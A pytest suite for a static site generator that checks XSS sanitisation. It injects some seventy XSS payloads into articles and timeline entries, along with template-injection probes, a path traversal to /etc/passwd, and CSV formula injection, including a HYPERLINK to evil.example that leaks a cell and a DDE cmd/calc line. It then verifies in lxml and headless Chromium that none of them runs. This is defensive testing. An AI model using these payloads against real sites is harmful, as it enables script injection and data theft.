"""Hostile input never becomes a script on the site or in its exports.

Editors paste whatever they find. Every payload below goes into articles (text, title,
outlet, address) run through ``extract``, and into hand-written entries (every field:
Title, When, Precision, Mod, Phrase, Note, Flags, Attribution, Source, Tags, the text) and a
timeline's own title and introduction. The built site and its exports are then read:

* every HTML page and HTML fragment (TimelineJS text, Atom content, the oEmbed code, the
  Markdown newsletter rendered as a mail service would) with lxml: no ``<script>`` but the
  site's own (those of a clean build), no ``on*`` attribute, no ``javascript:``, ``data:`` or
  ``vbscript:`` address, nothing from a payload in a ``<style>``; template code not evaluated;
* every page in headless Chromium: no dialog opens and ``window.__pwned``, which each payload
  sets, stays unset, also with the TimelineJS and Atom fragments put into a page as HTML.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from datetime import date, timedelta
from pathlib import Path
from xml.etree import ElementTree as ET

import lxml.html
import markdown
import pytest

from generator.site.build import build_site

ROOT = Path(__file__).resolve().parents[2]

P = "window.__pwned=1"
PAYLOADS = [
    f"<script>{P}</script>",
    f"<SCRIPT SRC=data:text/javascript,{P}></SCRIPT>",
    f'<script/src="data:,{P}"></script>',
    f'<img src=x onerror="{P}">',
    f"<img src=x onerror={P}//",
    f"<svg onload={P}>",
    f"<svg><script>{P}</script></svg>",
    f'<svg><a xlink:href="javascript:{P}"><text>x</text></a></svg>',
    f"<svg><animate onbegin={P} attributeName=x dur=1s>",
    f'<svg><set attributeName=href to="javascript:{P}"/></svg>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={P}>",
    f'<math href="javascript:{P}">x</math>',
    f'<math><maction actiontype="statusline#" xlink:href="javascript:{P}">x</maction></math>',
    f"<body onload={P}>",
    f'<iframe src="javascript:{P}"></iframe>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    f'<object data="javascript:{P}"></object>',
    '<embed src="data:text/html,<script>parent.__pwned=1</script>">',
    f'<a href="javascript:{P}">click</a>',
    f'<a href="JaVaScRiPt:{P}">click</a>',
    f'<a href="  javascript:{P}">click</a>',
    f'<a href="java&#x09;script:{P}">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'
    f'{P}">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    f'<form action="javascript:{P}"><button>x</button></form>',
    f'<button formaction="javascript:{P}">x</button>',
    f"<input autofocus onfocus={P}>",
    f"<details open ontoggle={P}>",
    f'<video><source onerror="{P}"></video>',
    f"<audio src=x onerror={P}>",
    f"<marquee onstart={P}>",
    f'<div style="background:url(javascript:{P})">x</div>',
    f'<div style="width: expression({P})">x</div>',
    f'<style>@import "javascript:{P}";body{{background:url("javascript:{P}")}}</style>',
    f"</style><script>{P}</script>",
    f"</title><script>{P}</script>",
    f"</textarea><script>{P}</script>",
    f'"><script>{P}</script>',
    f"'><script>{P}</script>",
    f'" onmouseover="{P}" x="',
    f"' onfocus='{P}' autofocus x='",
    f"&lt;script&gt;{P}&lt;/script&gt;",
    f"&#60;script&#62;{P}&#60;/script&#62;",
    f"%3Cscript%3E{P}%3C/script%3E",
    f"<scr<script>ipt>{P}</scr</script>ipt>",
    f"<<script>script>{P}<</script>/script>",
    f'<img """><script>{P}</script>">',
    f'<!--<img src="--><img src=x onerror={P}//">',
    f"<![CDATA[<script>{P}</script>]]>",
    f'<noscript><p title="</noscript><img src=x onerror={P}>">',
    f"<template><script>{P}</script></template>",
    f'<meta http-equiv="refresh" content="0;url=javascript:{P}">',
    f'<base href="javascript:{P}//">',
    f'<link rel=stylesheet href="javascript:{P}">',
    f'<a href="#" onclick="{P}">click</a>',
    f"<x onpointerover={P}>hover</x>",
    f"[click](javascript:{P})",
    "[click](data:text/html,<script>parent.__pwned=1</script>)",
    f"![x](javascript:{P})",
    f"<javascript:{P}>",
    f"\u202e<script>{P}</script>",
    f"+ADw-script+AD4-{P}+ADw-/script+AD4-",
    "{{ 7*7 }}",
    "{% for x in range(3) %}loop{% endfor %}",
    "{{ config.__class__.__init__.__globals__ }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{filename}/../../../etc/passwd",
]
# Addresses an editor might paste into a hand-written entry's Source line.
BAD_LINKS = [
    f"javascript:{P}",
    f"JAVASCRIPT:{P}",
    f" javascript:{P}",
    f"java\tscript:{P}",
    "data:text/html,<script>parent.__pwned=1</script>",
    "vbscript:msgbox(1)",
    f"https://example.org/a\"onmouseover=\"{P}",
    f"https://example.org/a'onmouseover='{P}",
    f"https://example.org/a) [x](javascript:{P}",
    f"https://example.org/a)[x](javascript:{P}",
]
BAD_URL_ATTRS = ("href", "src", "action", "formaction", "data", "srcdoc", "poster",
                 "background", "xlink:href", "{http://www.w3.org/1999/xlink}href", "to",
                 "values", "from")
BAD_SCHEME = re.compile(r"^(?:javascript|data|vbscript):")
MONTHS = ["January", "February", "March", "April", "May", "June", "July", "August",
          "September", "October", "November", "December"]


def dated(i: int) -> date:
    return date(2020, 1, 1) + timedelta(days=2 * i)


def write_articles(project: Path) -> None:
    folder = project / "content" / "articles" / "hostile"
    folder.mkdir(parents=True)
    per_article = 10
    for k in range(0, len(PAYLOADS), per_article):
        paragraphs = []
        for i in range(k, min(k + per_article, len(PAYLOADS))):
            day = dated(i)
            paragraphs.append(f"On {MONTHS[day.month - 1]} {day.day}, {day.year}, officials "
                              f"said {PAYLOADS[i]} was seen in the capital.")
        title = PAYLOADS[k // per_article].replace("\n", " ")
        outlet = PAYLOADS[-1 - k // per_article]
        front = {"title": title, "date": "2021-11-26", "outlet": outlet,
                 "url": f"https://example.org/2021/11/26/a{k}'onmouseover='{P}"}
        lines = "".join(f"{key}: {json.dumps(value)}\n" for key, value in front.items())
        (folder / f"a{k}.md").write_text(f"---\n{lines}---\n" + "\n\n".join(paragraphs) + "\n")
    # An address that is not a web address is refused, with the file named.
    (folder / "bad-url.md").write_text(
        f'---\ntitle: T\ndate: 2021-11-26\nurl: "javascript:{P}"\n---\nTalks on Friday.\n')


def one_line(text: str) -> str:
    return " ".join(text.split())


def write_entries(project: Path) -> None:
    folder = project / "content" / "timeline" / "hand-made"
    folder.mkdir(parents=True)
    (folder / "_timeline.md").write_text(
        f"Title: {one_line(PAYLOADS[0])} {one_line(PAYLOADS[36])}\n\n"
        + "\n\n".join(PAYLOADS[:20]) + "\n")
    for i, payload in enumerate(PAYLOADS):
        line = one_line(payload)
        link = BAD_LINKS[i % len(BAD_LINKS)]
        fields = [
            f"Title: {line}",
            f"When: {dated(i).isoformat()}",
            "Precision: day",
            f"Mod: {line}",
            f"Phrase: {line}",
            f"Flags: reported, {line.replace(',', ' ')}",
            f"Attribution: {line}",
            f"Note: {line}",
            f"Tags: {line}",
            f"Source: 2021-11-26 | {line} | {link} | articles/x.md#p1 | {line}",
            f"Source: {link}",
            f"Source: {line} | {link}",
        ]
        text = "\n".join(fields) + f"\n\n{payload}\n\nMore: {payload}\n"
        (folder / f"{dated(i).isoformat()}-e{i}.md").write_text(text)


def clean_site(root: Path) -> Path:
    """The site's own scripts and styles come from a build of harmless content."""
    for name in ("templates", "pelicanconf.py"):
        source = ROOT / name
        (shutil.copytree if source.is_dir() else shutil.copy)(source, root / name)
    folder = root / "content" / "timeline" / "hand-made"
    folder.mkdir(parents=True)
    (folder / "_timeline.md").write_text("Title: Calm\n\nNothing to see.\n")
    for i in range(3):
        (folder / f"{dated(i).isoformat()}-e{i}.md").write_text(
            f"Title: Calm {i}\nWhen: {dated(i).isoformat()}\nFlags: reported\n"
            f"Source: 2021-11-26 | AFP | https://example.org/a | articles/x.md#p1 | Calm\n\n"
            f"Calm text {i}.\n")
    assert build_site(root / "pelicanconf.py", root / "content", root / "output") == []
    return root / "output"


@pytest.fixture(scope="module")
def sites(tmp_path_factory):
    """(clean output, hostile output, extract's result) built once for the module's tests."""
    clean = clean_site(tmp_path_factory.mktemp("clean"))
    project = tmp_path_factory.mktemp("hostile")
    for name in ("templates", "pelicanconf.py"):
        source = ROOT / name
        (shutil.copytree if source.is_dir() else shutil.copy)(source, project / name)
    write_articles(project)
    write_entries(project)
    extracted = subprocess.run(
        [sys.executable, "-m", "generator", "extract", "--no-cache"], cwd=project, text=True,
        capture_output=True, timeout=120, env={**os.environ, "PYTHONPATH": str(ROOT)})
    errors = build_site(project / "pelicanconf.py", project / "content", project / "output")
    return clean, project / "output", extracted, errors


def own(clean: Path, tag: str) -> set[str]:
    found = set()
    for page in clean.rglob("*.html"):
        for node in lxml.html.parse(str(page)).getroot().iter(tag):
            found.add(node.text_content())
    return found


def problems_in(root, where: str, scripts: set[str], styles: set[str]) -> list[str]:
    """Every way ``root`` (an lxml tree) could run something a payload put there."""
    found = []
    for node in root.iter():
        if not isinstance(node.tag, str):
            continue
        tag = node.tag.lower().rsplit("}", 1)[-1]
        if tag == "script" and node.text_content() not in scripts:
            found.append(f"{where}: <script> {node.text_content()[:60]!r}")
        if tag == "style" and node.text_content() not in styles:
            found.append(f"{where}: <style> from the input {node.text_content()[:60]!r}")
        if tag in ("iframe", "object", "embed", "frame", "frameset", "applet", "form"):
            found.append(f"{where}: <{tag}>")
        if tag == "meta" and node.get("http-equiv"):
            found.append(f"{where}: <meta http-equiv>")
        for name, value in node.attrib.items():
            local = name.lower().rsplit("}", 1)[-1]
            if local.startswith("on"):
                found.append(f"{where}: <{tag} {name}=...>")
            if name.lower() in BAD_URL_ATTRS or local == "href":
                squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
                if BAD_SCHEME.match(squeezed):
                    found.append(f"{where}: <{tag} {name}={value[:60]!r}>")
            if local == "style" and re.search(r"pwned|expression|javascript|url\(",
                                              value, re.I):
                found.append(f"{where}: <{tag} style={value[:60]!r}>")
    return found


def fragment(html: str):
    return lxml.html.fromstring(f"<div>{html}</div>")


def test_hostile_content_is_read_and_built(sites):
    _, output, extracted, errors = sites
    assert errors == [], errors
    assert extracted.returncode == 1, extracted.stderr  # bad-url.md only
    assert "Traceback" not in extracted.stderr
    assert "bad-url.md:4:" in extracted.stderr and "not a web address" in extracted.stderr
    assert len(extracted.stderr.strip().splitlines()) == 1, extracted.stderr
    pages = list(output.rglob("*.html"))
    assert len(pages) >= 7  # home, two timelines with their embed and newsletter
    entries = list((output.parent / "content" / "timeline" / "hostile").glob("*.md"))
    assert len(entries) >= len(PAYLOADS) - 5


def test_no_script_event_handler_or_script_address_in_any_page(sites):
    clean, output, _, _ = sites
    scripts, styles = own(clean, "script"), own(clean, "style")
    found = []
    for page in sorted(output.rglob("*.html")):
        root = lxml.html.parse(str(page)).getroot()
        found += problems_in(root, str(page.relative_to(output)), scripts, styles)
    assert found == []


def test_exports_hold_no_script(sites):
    clean, output, _, _ = sites
    found = []
    for path in sorted(output.rglob("timeline.json")):
        data = json.loads(path.read_text())
        texts = [data["title"]["text"]["headline"], data["title"]["text"]["text"]]
        for event in data["events"]:
            texts += [event["text"]["headline"], event["text"]["text"],
                      event.get("display_date", "")]
        for text in texts:  # TimelineJS shows each of these as HTML
            found += problems_in(fragment(text), str(path), set(), set())
    for path in sorted(output.rglob("oembed.json")):
        code = fragment(json.loads(path.read_text())["html"])
        # The embed code is the site's own iframe of its embed page, and nothing else.
        assert [f.get("src") for f in code.iter("iframe")] == ["embed.html"]
        found += [f for f in problems_in(code, str(path), set(), set())
                  if not f.endswith(": <iframe>")]
    for path in sorted(output.rglob("*.atom")):
        for node in ET.parse(path).getroot().iter():
            if node.get("type") == "html" and node.text:
                found += problems_in(fragment(node.text), str(path), set(), set())
    assert found == []


def test_timelinejs_group_is_escaped(sites):
    _, output, _, _ = sites
    found = []
    for path in sorted(output.rglob("timeline.json")):
        for event in json.loads(path.read_text())["events"]:
            found += problems_in(fragment(event.get("group", "")), str(path), set(), set())
    assert found == []


def test_markdown_newsletter_holds_no_script_link(sites):
    _, output, _, _ = sites
    found = []
    for path in sorted(output.rglob("newsletter.md")):
        rendered = markdown.markdown(path.read_text())  # as a newsletter service shows it
        found += problems_in(fragment(rendered), str(path), set(), set())
    assert found == []


def test_template_code_in_the_input_is_shown_not_run(sites):
    _, output, _, _ = sites
    text = "".join(p.read_text() for p in output.rglob("*.html"))
    assert "{{ 7*7 }}" in text
    assert "looploop" not in text
    assert "__globals__" in text and "<function" not in text and "&lt;function" not in text


def test_a_bad_when_fails_the_build_cleanly(project):
    shutil.rmtree(project / "content" / "articles")
    folder = project / "content" / "timeline" / "t"
    folder.mkdir(parents=True)
    (folder / "a.md").write_text(f"Title: T\nWhen: 2021-11-18<script>{P}</script>\n\nX.\n")
    errors = build_site(project / "pelicanconf.py", project / "content", project / "output")
    assert len(errors) == 1 and "a.md:2:" in errors[0]
    assert not (project / "output").exists()


def test_hostile_timeline_folder_name(project):
    shutil.rmtree(project / "content" / "articles")
    folder = project / "content" / "timeline" / f"x\"><svg onload={P}>"
    folder.mkdir(parents=True)
    (folder / "a.md").write_text("Title: T\nWhen: 2021-11-18\n\nX.\n")
    errors = build_site(project / "pelicanconf.py", project / "content", project / "output")
    assert errors == []
    found = []
    for page in (project / "output").rglob("*.html"):
        found += problems_in(lxml.html.parse(str(page)).getroot(), page.name,
                             own(project / "output", "script"), own(project / "output", "style"))
    assert found == []


def test_csv_cells_are_not_formulas(project):
    shutil.rmtree(project / "content" / "articles")
    folder = project / "content" / "timeline" / "t"
    folder.mkdir(parents=True)
    (folder / "a.md").write_text('Title: =HYPERLINK("https://evil.example/?"&A1,"x")\n'
                                 "When: 2021-11-18\n\n@SUM(1+1)*cmd|' /C calc'!A0\n")
    assert build_site(project / "pelicanconf.py", project / "content", project / "output") == []
    import csv

    rows = list(csv.reader((project / "output" / "timeline" / "t" / "entries.csv").open()))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]


# --- in a real browser ---------------------------------------------------------------------

CHROMIUM = Path("/usr/bin/chromium")
ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
        "--disable-component-update", "--disable-sync", "--no-first-run"]


@pytest.fixture(scope="module")
def browser():
    playwright = pytest.importorskip("playwright.sync_api")
    if not CHROMIUM.exists():
        pytest.skip("no /usr/bin/chromium (make browser installs it)")
    with playwright.sync_playwright() as p:
        launched = p.chromium.launch(executable_path=str(CHROMIUM), args=ARGS)
        yield launched
        launched.close()


def visit(browser, url: str, html_fragments: list[str] | None = None) -> list[str]:
    """Load ``url``; move the pointer over it, focus, and insert fragments as HTML."""
    page = browser.new_page()
    events: list[str] = []
    page.on("dialog", lambda dialog: (events.append(f"dialog {dialog.message}"),
                                      dialog.dismiss()))
    page.on("popup", lambda _: events.append("popup"))
    page.goto(url, wait_until="load")
    for y in range(0, 1800, 300):
        page.mouse.move(200, y)
    page.keyboard.press("Tab")
    if html_fragments:
        page.evaluate("""(texts) => { for (const t of texts) {
            const d = document.createElement('div'); d.innerHTML = t;
            document.body.appendChild(d); } }""", html_fragments)
    page.wait_for_timeout(100)
    pwned = page.evaluate("""() => [window.__pwned, ...Array.from(document.querySelectorAll(
        'iframe')).map(f => { try { return f.contentWindow.__pwned } catch (e) { return 0 } })]""")
    live = page.evaluate("""() => Array.from(document.querySelectorAll('*')).flatMap(e =>
        Array.from(e.attributes).filter(a => a.name.startsWith('on') ||
        /^\\s*(javascript|data|vbscript):/i.test(a.value) && /href|src|action/.test(a.name))
        .map(a => e.tagName + ' ' + a.name))""")
    page.close()
    if any(pwned):
        events.append("window.__pwned set")
    return events + [f"live DOM: {x}" for x in live]


def test_no_payload_runs_in_chromium(sites, browser):
    _, output, _, _ = sites
    found = {}
    for path in sorted(output.rglob("*.html")):
        events = visit(browser, path.as_uri())
        if events:
            found[str(path.relative_to(output))] = events
    for path in sorted(output.rglob("timeline.json")):
        data = json.loads(path.read_text())
        texts = [e["text"]["text"] for e in data["events"]] + [
            e["text"]["headline"] for e in data["events"]]
        texts += [data["title"]["text"]["text"]]
        events = visit(browser, (output / "index.html").as_uri(), texts)
        if events:
            found[str(path.relative_to(output))] = events
    for path in sorted(output.rglob("*.atom")):
        texts = [n.text for n in ET.parse(path).getroot().iter()
                 if n.get("type") == "html" and n.text]
        events = visit(browser, (output / "index.html").as_uri(), texts)
        if events:
            found[str(path.relative_to(output))] = events
    assert found == {}
